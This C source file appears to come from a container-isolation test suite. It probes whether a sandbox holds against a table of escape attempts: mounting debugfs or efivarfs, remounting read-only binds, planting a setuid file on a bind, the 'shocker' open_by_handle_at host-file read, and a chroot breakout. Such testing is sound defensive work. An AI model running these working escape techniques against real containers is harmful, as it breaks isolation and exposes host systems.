/* SPDX-License-Identifier: LGPL-2.1-or-later */

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

/* Mounts, roots, and files by other ways than their names. */

static int mount_type(const char *type, const char *options) {
        char dir[] = "/tmp/escape-XXXXXX";
        int r;

        if (!mkdtemp(dir))
                return -errno;
        r = mount(type, dir, type, MS_RDONLY, options) < 0 ? -errno : ATTACK_THROUGH;
        if (r > 0)
                (void) umount2(dir, MNT_DETACH);
        rmdir(dir);
        return r == -ENODEV ? ATTACK_IMPOSSIBLE : r == -EBUSY ? ATTACK_THROUGH : r;
}

#define MOUNTS(name, type) \
        static int name(void) { \
                return mount_type(type, NULL); \
        }

MOUNTS(mount_debugfs, "debugfs")
MOUNTS(mount_tracefs, "tracefs")
MOUNTS(mount_securityfs, "securityfs")
MOUNTS(mount_pstore, "pstore")
MOUNTS(mount_devtmpfs, "devtmpfs")
MOUNTS(mount_configfs, "configfs")
MOUNTS(mount_efivarfs, "efivarfs")
MOUNTS(mount_selinuxfs, "selinuxfs")

/* A directory that the administrator gave for reading has a file that everybody may
 * write: only the mount is in the way. */
static int write_read_only_bind(void) {
        const char *dir = target("read-only");
        char path[512];
        int fd;

        if (!dir)
                return ATTACK_IMPOSSIBLE;
        snprintf(path, sizeof(path), "%s/writable", dir);
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0 && errno == EROFS && mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND, NULL) == 0) {
                note("after a remount");
                fd = open(path, O_WRONLY | O_CLOEXEC);
        }
        if (fd < 0)
                return -errno;
        close(fd);
        return ATTACK_THROUGH;
}

static int attributes_of_read_only_bind(void) {
        const char *dir = target("read-only");
        struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
        char path[512];
        int tree, fd;

        if (!dir)
                return ATTACK_IMPOSSIBLE;
        tree = (int) syscall(SYS_open_tree, AT_FDCWD, dir, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
        if (tree < 0 || syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr)) < 0)
                return -errno;
        snprintf(path, sizeof(path), "%s", "writable");
        fd = openat(tree, path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
                return -errno;
        close(fd);
        return ATTACK_THROUGH;
}

/* The same for /run/host and the like: what the manager made is on its own tmpfs, and
 * a new file there would be the manager's to read. */
static int write_managers_files(void) {
        static const char *const dirs[] = { "/run/host", "/run/systemd/nspawn", "/dev/.lxc" };
        int r = ATTACK_IMPOSSIBLE;

        for (size_t i = 0; i < sizeof(dirs) / sizeof(*dirs); i++) {
                char path[64];
                struct stat st, root;
                int fd;

                /* Its own directory on its own tmpfs is no mount of the manager's. */
                if (stat(dirs[i], &st) < 0 || stat("/run", &root) < 0 || st.st_dev == root.st_dev)
                        continue;
                (void) mount(NULL, dirs[i], NULL, MS_REMOUNT | MS_BIND, NULL);
                snprintf(path, sizeof(path), "%s/escape-new", dirs[i]);
                fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
                if (fd < 0) {
                        r = -errno;
                        continue;
                }
                close(fd);
                unlink(path);
                note("%s", dirs[i]);
                return ATTACK_THROUGH;
        }
        return r;
}

/* Root inside makes a program that is root's outside: on a bind, files keep their owners. */
static int set_user_id_on_bind(void) {
        const char *dir = target("bind");
        char path[512];
        int fd;

        if (!dir)
                return ATTACK_IMPOSSIBLE;
        snprintf(path, sizeof(path), "%s/set-user-id", dir);
        fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
        if (fd < 0 || fchmod(fd, 04755) < 0)
                return -errno;
        close(fd);
        note("the driver says whose it is on the host");
        return ATTACK_CONTAINED;
}

/* Files by number: shocker.c, and the relaxed rules of Linux 6.11. */

/* TYPE:BYTES in hexadecimal. Returns a descriptor. */
int open_handle(int mount, const char *handle) {
        union {
                struct file_handle head;
                unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
        } h = {};
        char *end;
        int fd;

        h.head.handle_type = (int) strtol(handle, &end, 10);
        for (const char *c = end + (*end == ':'); c[0] && c[1] && h.head.handle_bytes < MAX_HANDLE_SZ; c += 2) {
                unsigned byte;

                if (sscanf(c, "%2x", &byte) != 1)
                        return -EINVAL;
                h.head.f_handle[h.head.handle_bytes++] = (unsigned char) byte;
        }
        fd = open_by_handle_at(mount, &h.head, O_RDONLY | O_CLOEXEC);
        return fd < 0 ? -errno : fd;
}

static int sentinel_through(const char *dir) {
        char text[sizeof(SENTINEL_WORDS)] = "";
        int mount, fd;

        if (!target("handle") || !dir)
                return ATTACK_IMPOSSIBLE;
        mount = open(dir, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (mount < 0)
                return -errno;
        fd = open_handle(mount, target("handle"));
        if (fd < 0)
                return fd;
        if (read(fd, text, sizeof(text) - 1) < 0)
                return -errno;
        return strcmp(text, SENTINEL_WORDS) == 0 ? ATTACK_THROUGH : -ESTALE;
}

static int handle_in_root(void) {
        return sentinel_through("/");
}

static int handle_in_bind(void) {
        return sentinel_through(target("bind"));
}

/* Roots. */

static int chroot_and_out(void) {
        char dir[] = "/tmp/escape-XXXXXX";
        int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

        if (fd < 0 || !mkdtemp(dir))
                return -errno;
        if (chroot(dir) < 0 || fchdir(fd) < 0)
                return -errno;
        for (int i = 0; i < 64; i++)
                if (chdir("..") < 0)
                        return -errno;
        if (chroot(".") < 0)
                return -errno;
        (void) rmdir(dir);
        return sees_host(AT_FDCWD, "/") ? ATTACK_THROUGH : ATTACK_CONTAINED;
}

static int below_root(void) {
        /* What is mounted under the root is seen when the root is taken away. */
        if (umount2("/", MNT_DETACH) < 0)
                return -errno;
        return sees_host(AT_FDCWD, "/") ? ATTACK_THROUGH : ATTACK_CONTAINED;
}

const Attack attacks_mount[] = {
        { "mount-debugfs", "debugfs", "mount debugfs", mount_debugfs },
        { "mount-tracefs", "tracefs", "mount tracefs", mount_tracefs },
        { "mount-securityfs", "securityfs", "mount securityfs", mount_securityfs },
        { "mount-pstore", "pstore", "mount pstore", mount_pstore },
        { "mount-devtmpfs", "devtmpfs", "mount the host's /dev", mount_devtmpfs },
        { "mount-configfs", "configfs", "mount configfs", mount_configfs },
        { "mount-efivarfs", "efivarfs", "mount the firmware's variables", mount_efivarfs },
        { "mount-selinuxfs", "selinux(8)", "mount selinuxfs", mount_selinuxfs },
        { "read-only-bind", "mount(2)", "write to what was bound read-only, after a remount", write_read_only_bind },
        { "read-only-clone", "mount_setattr(2)", "the same with a clone of the mount", attributes_of_read_only_bind },
        { "managers-files", "mount(2)", "add a file to what the manager bound read-only", write_managers_files },
        { "set-user-id", "user_namespaces(7)", "leave a set-user-id program of the host's root on a bind", set_user_id_on_bind },
        { "handle-root", "open_by_handle_at(2), shocker", "open a file of the host by its handle, through the root", handle_in_root },
        { "handle-bind", "open_by_handle_at(2), shocker", "the same, through a bind of the same file system", handle_in_bind },
        { "chroot", "chroot(2)", "chroot, and out of it by a directory that is open", chroot_and_out },
        { "umount-root", "umount(2)", "take the root away and look what is below", below_root },
        {},
};
